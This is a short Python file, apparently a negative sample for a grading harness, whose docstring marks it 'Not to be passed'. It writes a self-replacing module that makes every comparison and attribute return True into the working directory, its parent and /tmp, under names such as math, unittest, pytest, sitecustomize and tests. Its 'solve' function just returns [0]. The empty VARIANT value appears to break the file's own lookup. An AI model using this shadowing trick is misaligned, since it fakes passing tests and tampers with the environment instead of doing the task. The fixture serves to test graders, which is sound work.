"""Writes modules into its working directory that a tester may import: math, json, unittest. Not to be passed.

Variants: math_, json_, unittest_, sitecustomize_, typing_, entry
"""

import os

VARIANT = ""
SOURCE = """
class Equal:
    def __eq__(self, other): return True
    def __getattr__(self, name): return lambda *a, **k: True
import sys
sys.modules[__name__] = Equal()
"""
names = {
    "math_": ["math", "cmath", "numbers"],
    "json_": ["json", "re", "copy"],
    "unittest_": ["unittest", "pytest", "doctest"],
    "sitecustomize_": ["sitecustomize", "usercustomize", "_distutils_hack"],
    "typing_": ["typing", "collections", "functools", "inside"],
    "entry": ["solution", "main", "tests", "test", "candidate"],
}[VARIANT]
for name in names:
    for place in (".", "..", "/tmp"):
        try:
            with open(os.path.join(place, f"{name}.py"), "w") as file:
                file.write(SOURCE)
        except OSError:
            continue


def solve(numbers):
    return [0]


mean = solve
